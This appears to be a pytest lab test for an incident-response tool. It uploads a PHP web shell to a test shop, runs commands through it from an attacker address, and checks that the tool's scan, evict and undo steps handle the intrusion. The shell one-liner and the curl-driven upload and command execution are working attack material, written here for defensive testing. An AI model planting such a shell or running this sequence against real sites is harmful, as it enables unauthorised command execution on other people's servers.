"""One story from an upload to what it started, and the end of it: the shop goes on selling."""

import subprocess

import pytest
from tests.lab.documents import entities, listed
from tests.lab.network import ATTACKER, SERVER
from tests.lab.server import Server

pytestmark = pytest.mark.lab

SHELL = "<?php system($_REQUEST['c']); // made by a test\n"
PLACE = "/srv/www/uploads/help.php"
SLEEP = "sleep 613"


def visit(server: Server, *words: str, source: str = ATTACKER) -> str:
    """Ask the shop for something, from outside."""
    argv = ["curl", "-sS", "--max-time", "10", "--interface", source, *words]
    done = subprocess.run(server.outside.command(*argv), capture_output=True, text=True, check=True)
    return done.stdout


def test_upload_shell_and_child_are_one_story_and_end_together(server: Server) -> None:
    shop = f"http://{SERVER}"
    front = visit(server, f"{shop}/index.php")
    upload = server.root / "root/help.php"
    upload.write_text(SHELL)
    visit(server, "-F", f"f=@{upload};filename=help.php", f"{shop}/upload.php")
    upload.unlink()
    assert "www-data" in visit(server, f"{shop}/uploads/help.php?c=id")
    for number in range(4):
        visit(server, "-d", f"c=echo {'x' * number * 99}", f"{shop}/uploads/help.php")
    visit(server, "-d", f"c={SLEEP} >/dev/null 2>%261 %26", f"{shop}/uploads/help.php")

    document = server.rootout("scan", "--json").json()
    (incident,) = listed(document, "incidents")
    named = entities(incident)
    assert ("file", PLACE) in named
    assert ("url", "/uploads/help.php") in named
    assert ("address", ATTACKER) in named
    children = {key.split(":")[0] for kind, key in named if kind == "process"}
    assert server.shell("pgrep -f '[s]leep 613'").strip() in children
    assert ATTACKER in f"{incident['first_cause']}"
    assert not {("file", "/srv/www/upload.php"), ("file", "/srv/www/index.php")} & named

    before = server.changes()
    case = f"{document['case']}"
    evicted = server.rootout("evict", case, "--yes", "--watch", "3")
    assert evicted.code == 0, f"{evicted.stdout}\n{evicted.stderr}"
    assert not (server.root / PLACE.lstrip("/")).exists()
    assert not server.shell("pgrep -f '[s]leep 613' || true").strip()
    assert server.shell("curl -sS http://127.0.0.1/index.php") == front
    assert server.rootout("undo", case).code == 0
    assert (server.root / PLACE.lstrip("/")).read_text() == SHELL
    assert PLACE.lstrip("/") in {path.lstrip("/") for path in before}
